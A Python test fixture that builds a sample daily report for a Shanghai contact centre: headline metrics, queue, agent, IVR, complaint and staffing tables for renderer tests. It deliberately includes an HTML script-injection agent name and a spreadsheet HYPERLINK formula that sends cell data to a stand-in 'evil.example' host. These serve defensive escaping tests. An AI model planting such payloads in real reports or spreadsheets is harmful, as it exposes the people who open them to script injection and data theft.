"""A daily pack with realistic numbers for the renderer tests: a Shanghai contact centre's
Sunday, with values that cannot be computed (None), Chinese names and a hostile agent name."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta

from asterisk_cc.core.reports.pack import (
    Column,
    DailyPack,
    Headline,
    IntervalRow,
    Rag,
    Table,
    Unit,
)

HOSTILE_NAME = "<script>alert('x')</script> & <b>Bold</b>"
CHINESE_AGENT = "王小明"
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"open")'
"""A complaint category as a hostile caller could make it: a spreadsheet formula."""
DAY = date(2026, 11, 22)

# Calls offered per half hour from 08:00 to 19:30, the usual morning and after-lunch peaks.
_OFFERED = (
    18,
    34,
    61,
    88,
    97,
    92,
    84,
    71,
    55,
    47,
    58,
    76,
    83,
    79,
    68,
    57,
    49,
    41,
    33,
    26,
    19,
    14,
    9,
    0,
)


def _interval(index: int, offered: int) -> IntervalRow:
    start = datetime(2026, 11, 22, 8, 0) + timedelta(minutes=30 * index)
    abandoned = round(offered * (0.03 + 0.06 * (offered > 80)))
    answered = offered - abandoned
    service = None if offered == 0 else round(0.93 - 0.0025 * offered, 3)
    return IntervalRow(
        start=start,
        length_s=1800,
        offered=offered,
        answered=answered,
        abandoned=abandoned,
        service_level=service,
        abandon_rate=None if offered == 0 else abandoned / offered,
        asa_s=None if offered == 0 else 6.0 + 0.35 * offered,
        aht_s=None if answered == 0 else 290.0 + offered / 3,
    )


def _agents(count: int) -> tuple[tuple[str | int | float | None, ...], ...]:
    names = [CHINESE_AGENT, HOSTILE_NAME, "Anna O'Brien", "李娜", "Carlos Méndez", "张伟"]
    rows: list[tuple[str | int | float | None, ...]] = []
    for n in range(count):
        name = names[n] if n < len(names) else f"Agent {n + 1:02d}"
        handled = 58 + (n * 17) % 41
        rows.append(
            (
                name,
                "A 组" if n % 2 else "Team B",
                handled,
                280.0 + (n * 23) % 90,
                215.0 + (n * 19) % 70,
                12.0 + n % 9,
                40.0 + (n * 7) % 30,
                0.78 + (n % 7) / 50,
                27_000 + n * 300,
                1_800 + (n * 211) % 1500,
                None if n == 2 else round(3.7 + (n % 6) / 10, 2),
                0.04 + (n % 5) / 100,
            )
        )
    return tuple(rows)


def sample_pack(*, agent_count: int = 8, intervals: bool = True) -> DailyPack:
    """The pack of 22 November 2026; ``agent_count`` makes the agents table as long as a
    test needs (the PDF's page breaks), ``intervals=False`` a day without calls."""
    headline = (
        Headline("offered", 1284, Unit.COUNT, day_before=1190, week_before=1342),
        Headline("answered", 1187, Unit.COUNT, day_before=1121, week_before=1270),
        Headline(
            "service_level",
            0.834,
            Unit.RATIO,
            target=0.80,
            status=Rag.GREEN,
            day_before=0.813,
            week_before=0.861,
        ),
        Headline(
            "abandon_rate",
            0.0755,
            Unit.RATIO,
            target=0.05,
            status=Rag.AMBER,
            higher_is_better=False,
            day_before=0.058,
            week_before=0.054,
        ),
        Headline(
            "asa_s",
            24.6,
            Unit.SECONDS,
            target=30,
            status=Rag.GREEN,
            higher_is_better=False,
            day_before=27.9,
            week_before=19.5,
        ),
        Headline("aht_s", 312.4, Unit.SECONDS, day_before=305.0, week_before=318.2),
        Headline(
            "occupancy",
            0.91,
            Unit.RATIO,
            target=0.85,
            status=Rag.RED,
            higher_is_better=False,
            day_before=0.86,
            week_before=0.84,
        ),
        Headline("fcr_rate", 0.72, Unit.RATIO, day_before=0.70, week_before=None),
        Headline(
            "csat", 4.21, Unit.SCORE, target=4.0, status=Rag.GREEN, day_before=4.1, week_before=4.3
        ),
        Headline("cost_per_call", 18.5, Unit.MONEY, day_before=19.25, week_before=18.5),
        Headline("max_wait_s", 3725.0, Unit.SECONDS, day_before=410.0, week_before=388.0),
        Headline("callback_fulfilment", None, Unit.RATIO, target=0.9, day_before=None),
        Headline("complaints_received", 7, Unit.COUNT, day_before=4, week_before=0),
    )
    queues = Table(
        "queues",
        (
            Column("queue", Unit.TEXT),
            Column("offered", Unit.COUNT),
            Column("answered", Unit.COUNT),
            Column("abandoned", Unit.COUNT),
            Column("service_level", Unit.RATIO),
            Column("asa_s", Unit.SECONDS),
            Column("aht_s", Unit.SECONDS),
            Column("abandon_rate", Unit.RATIO),
        ),
        (
            ("support", 812, 748, 64, 0.821, 26.2, 331.0, 0.0788),
            ("sales", 389, 365, 24, 0.846, 22.7, 281.5, 0.0617),
            ("VIP 贵宾", 83, 74, 9, 0.904, 14.1, 298.0, 0.1084),
            ("overflow", 0, 0, 0, None, None, None, None),
        ),
        total=("", 1284, 1187, 97, 0.834, 24.6, 312.4, 0.0755),
    )
    agents = Table(
        "agents",
        (
            Column("agent", Unit.TEXT),
            Column("team", Unit.TEXT),
            Column("handled", Unit.COUNT),
            Column("aht_s", Unit.SECONDS),
            Column("avg_talk_s", Unit.SECONDS),
            Column("avg_hold_s", Unit.SECONDS),
            Column("avg_wrapup_s", Unit.SECONDS),
            Column("occupancy", Unit.RATIO),
            Column("staffed_s", Unit.SECONDS),
            Column("paused_s", Unit.SECONDS),
            Column("csat", Unit.SCORE),
            Column("transfer_rate", Unit.RATIO),
        ),
        _agents(agent_count),
    )
    ivr = Table(
        "ivr_funnel",
        (
            Column("node", Unit.TEXT),
            Column("entered", Unit.COUNT),
            Column("left_here", Unit.COUNT),
            Column("drop_off_rate", Unit.RATIO),
        ),
        (
            ("main_menu", 1530, 96, 0.0627),
            ("account_entry", 702, 41, 0.0584),
            ("balance", 288, 251, 0.8715),
            ("to_queue", 1284, 0, 0.0),
        ),
    )
    complaints = Table(
        "complaints_due",
        (
            Column("ticket", Unit.TEXT),
            Column("customer", Unit.TEXT),
            Column("category", Unit.TEXT),
            Column("state", Unit.TEXT),
            Column("due_at", Unit.TEXT),
            Column("age_s", Unit.SECONDS),
        ),
        (
            ("C-20261120-004", "刘洋", "billing 账单", "plan", "2026-11-23 12:00", 151_200.0),
            ("C-20261121-011", HOSTILE_NAME, FORMULA_TEXT, "confirm", "2026-11-23 18:00", 86_400.0),
        ),
    )
    staffing = Table(
        "staffing",
        (
            Column("interval", Unit.TEXT),
            Column("calls", Unit.COUNT),
            Column("aht_s", Unit.SECONDS),
            Column("required_agents", Unit.COUNT),
            Column("scheduled_agents", Unit.COUNT),
            Column("gap", Unit.COUNT),
        ),
        (
            ("09:00–09:30", 92, 318.0, 19, 17, -2),
            ("09:30–10:00", 88, 311.0, 18, 18, 0),
            ("10:00–10:30", 84, 309.0, 17, 18, 1),
        ),
    )
    return DailyPack(
        site_name="Shanghai Hotline 上海热线",
        day=DAY,
        timezone="Asia/Shanghai",
        generated_at=datetime(2026, 11, 22, 22, 30, 5, tzinfo=UTC),
        headline=headline,
        intervals=tuple(_interval(i, n) for i, n in enumerate(_OFFERED)) if intervals else (),
        tables=(queues, agents, ivr, complaints, staffing),
        notes=(
            "queue_log lines 10 220–10 224 were broken and skipped.",
            "CSAT from 143 survey answers; 客户满意度来自 143 份问卷。",
        ),
    )
